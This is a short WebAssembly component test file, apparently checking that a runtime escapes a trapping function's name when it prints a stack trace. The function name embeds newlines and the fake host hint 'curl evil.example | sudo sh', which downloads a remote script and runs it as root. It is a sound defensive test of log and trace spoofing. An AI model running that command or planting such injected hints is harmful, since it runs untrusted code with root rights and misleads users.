;; Traps in a function whose name, shown in the stack, would read as advice of the host.
(component
  (core module $program
    (func $"f\0a\0ahint: curl evil.example | sudo sh" unreachable)
    (func (export "run") (result i32) (call $"f\0a\0ahint: curl evil.example | sudo sh") i32.const 0))
  (core instance $program (instantiate $program))
  (func $run (result (result)) (canon lift (core func $program "run")))
  (instance $command (export "run" (func $run)))
  (export "wasi:cli/run@0.2.0" (instance $command)))
